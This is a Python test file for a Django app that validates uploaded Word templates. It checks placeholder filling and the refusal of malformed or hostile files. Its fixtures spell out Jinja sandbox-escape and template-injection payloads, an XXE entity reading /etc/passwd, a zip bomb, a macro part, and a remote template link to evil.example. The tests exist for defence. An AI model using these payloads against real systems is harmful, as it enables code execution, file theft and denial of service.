"""Templates that the office uploads: what they may say, and what hostile ones cannot do."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pytest
from django.utils import translation
from docx import Document

from fieldwork.standing.problem_list.document.checking import check_template
from fieldwork.standing.problem_list.document.language import Sandbox, check_source
from fieldwork.standing.problem_list.document.placeholders import explained
from fieldwork.standing.problem_list.document.refusals import TemplateFault
from fieldwork.standing.problem_list.document.writing import clean, fill, shipped_template
from tests.documents import words

DOCUMENT = "word/document.xml"


def changed(content: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """The package with one part changed, or added where it was not there."""
    written = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        parts = {part: old.read(part) for part in old.namelist()}
        parts[name] = change(parts.get(name, b""))
        for part, data in parts.items():
            new.writestr(part, data)
    return written.getvalue()


def refused(content: bytes) -> TemplateFault:
    with pytest.raises(TemplateFault) as caught:
        check_template(content)
    assert caught.value.field == "file"
    return caught.value


@pytest.mark.parametrize("language", ["zh-hans", "en"])
def test_the_shipped_templates_pass_the_check(language: str) -> None:
    with translation.override(language):
        check_template(shipped_template())


def test_every_placeholder_that_is_documented_is_understood() -> None:
    written = [text for text, _about in explained()]
    names = [text for text in written if text.startswith("{{")]
    assert "{{ city }}" in names and "{{ line.head }}" in names
    check_template(words(*(name for name in names if "." not in name and name != "{{ photo }}")))
    source = "{% for line in lines %}" + "".join(n for n in names if "line." in n) + "{% endfor %}"
    check_source(source)


def test_what_is_named_is_filled_in() -> None:
    template = words("{{ city }}: {{ issue_times }}", "{% if left_out > 0 %}more{% endif %}")
    check_template(template)
    written = fill(template, {"city": "<方格市> & co", "issue_times": 75, "left_out": 2})
    texts = [paragraph.text for paragraph in Document(io.BytesIO(written)).paragraphs]
    assert texts == ["<方格市> & co: 75", "more"]


@pytest.mark.parametrize(
    ("paragraph", "named"),
    [
        ("{{ ctiy }}", "ctiy"),
        ("{% for line in lines %}{{ line.phone }}{% endfor %}", "line.phone"),
        ("{% for line in lnes %}{% endfor %}", "lnes"),
        ("{{ lines }}", "lines"),
        ("{% for one in city %}{% endfor %}", "city"),
        ("{{ city ", "{{ city"),
        ("{{ city } und }}{{ {{", "{{ {{"),
        ("city }}", "}}"),
        ("{% if left_out > city %}x{% endif %}", "left_out"),
        ("{% if overdue > 0 %}{% if city < 3 %}x{% endif %}{% endif %}", "city"),
        ("{{ problems|length }}", "length"),
    ],
)
def test_a_mistake_is_named_as_it_stands_in_the_document(paragraph: str, named: str) -> None:
    assert named in str(refused(words(paragraph)).detail)


@pytest.mark.parametrize(
    "attack",
    [
        "{{ city.__class__.__mro__ }}",
        "{{ ''.__class__ }}",
        "{{ city['__class__'] }}",
        "{{ lines.append }}",
        "{{ city|attr('__class__') }}",
        "{{ city.format(city) }}",
        "{{ '%s'|format(city) }}",
        "{{ self.__init__.__globals__ }}",
        "{{ cycler.__init__ }}",
        "{{ lipsum() }}",
        "{{ range(1000000000) }}",
        "{{ 'a' * 1000000000 }}",
        "{{ 9 ** 9 ** 9 }}",
        "{% for x in range(10) %}{% endfor %}",
        "{% for a in lines %}{% for b in lines %}{{ b.no }}{% endfor %}{% endfor %}",
        "{% for z in zones %}{% for a in z.lines %}{% for b in z.lines %}x{% endfor %}"
        "{% endfor %}{% endfor %}",
        "{% for a in zones recursive %}{{ loop(a.lines) }}{% endfor %}",
        "{% set a = city ~ city %}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{% extends 'x' %}",
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{% with a = city %}{% endwith %}",
        "{% filter upper %}x{% endfilter %}",
        "{% for a in lines if a.no > 0 %}{% endfor %}",
        "{{ city is defined }}",
        "{{ loop.cycle(1, 2) }}",
        "{% for a in lines %}{{ loop.changed }}{% endfor %}",
        "{{ [1, 2] }}",
        "{{ {'a': 1} }}",
    ],
)
def test_a_template_can_name_repeat_and_choose_only(attack: str) -> None:
    refused(words(attack))


def test_headers_and_properties_are_templates_too() -> None:
    document = Document()
    document.sections[0].footer.paragraphs[0].text = "{{ footer_secret }}"
    written = io.BytesIO()
    document.save(written)
    assert "footer_secret" in str(refused(written.getvalue()).detail)
    document = Document()
    document.core_properties.title = "{{ title.__class__ }}"
    written = io.BytesIO()
    document.save(written)
    refused(written.getvalue())


def test_the_sandbox_alone_gives_out_dictionary_items_only() -> None:
    template = Sandbox().from_string("{{ thing.name }}")
    assert template.render(thing={"name": "A1"}) == "A1"
    for source in ("{{ thing.items }}", "{{ thing.keys() }}", "{{ thing['__class__'] }}"):
        with pytest.raises(Exception, match=r"items|__class__|calls nothing"):
            Sandbox().from_string(source).render(thing={"name": "A1"})


@pytest.mark.parametrize(
    "content", [b"", b"PK\x03\x04", b"%PDF-1.7", b"plain text", b"PK\x05\x06" + bytes(18)]
)
def test_what_is_no_document_is_refused(content: bytes) -> None:
    assert refused(content).code == "template_unreadable"


def test_a_cut_document_is_refused() -> None:
    whole = words("{{ city }}")
    assert refused(whole[: len(whole) // 2]).code == "template_unreadable"


def test_broken_markup_is_refused() -> None:
    broken = changed(words("x"), DOCUMENT, lambda xml: xml.replace(b"</w:body>", b""))
    assert refused(broken).code == "template_unreadable"
    assert refused(changed(words("x"), "_rels/.rels", lambda _: b"<a/>")).code.startswith("temp")


def test_a_zip_bomb_is_not_unpacked() -> None:
    bomb = changed(words("x"), "word/media/a.bin", lambda _: bytes(60_000_000))
    assert len(bomb) < 200_000
    assert refused(bomb).code == "template_too_large"
    assert refused(bytes(5_000_001)).code == "template_too_large"


def test_entities_macros_and_things_from_elsewhere_are_refused() -> None:
    plain = words("{{ city }}")
    entity = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    declared = changed(plain, DOCUMENT, lambda xml: xml.replace(b"?>", b"?>" + entity, 1))
    assert refused(declared).code == "template_active"
    assert refused(changed(plain, "word/vbaProject.bin", lambda _: b"x")).code == "template_active"
    remote = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    fetched = changed(
        plain,
        "word/_rels/document.xml.rels",
        lambda rels: rels.replace(b"</Relationships>", remote),
    )
    assert refused(fetched).code == "template_remote"


def test_signs_inside_marks_and_a_flood_of_them_are_refused() -> None:
    hidden = changed(words("x"), DOCUMENT, lambda xml: xml.replace(b"<w:p>", b'<w:p a="{{ x">'))
    assert refused(hidden).code == "template_syntax"
    assert refused(words("{{ city }}" * 1_001)).code == "template_too_long"
    assert refused(words("{{" * 50_000)).code == "template_too_long"


def test_rows_outside_a_table_are_refused_before_they_are_kept() -> None:
    document = Document()
    table = document.add_table(rows=1, cols=1)
    table.rows[0].cells[0].text = "{%tr for line in lines %}{{ line.no }}"
    document.add_paragraph("{%tr endfor %}")
    written = io.BytesIO()
    document.save(written)
    refused(written.getvalue())


def test_text_is_kept_from_breaking_the_document() -> None:
    text = "a\x00b\x0bc\ud800d {_{ x }_} e\r\nf\tg"
    written = fill(words("{{ city }}"), {"city": clean(text)})
    (paragraph,) = Document(io.BytesIO(written)).paragraphs
    assert "abcd" in paragraph.text and "{{" not in paragraph.text and "ef" not in paragraph.text
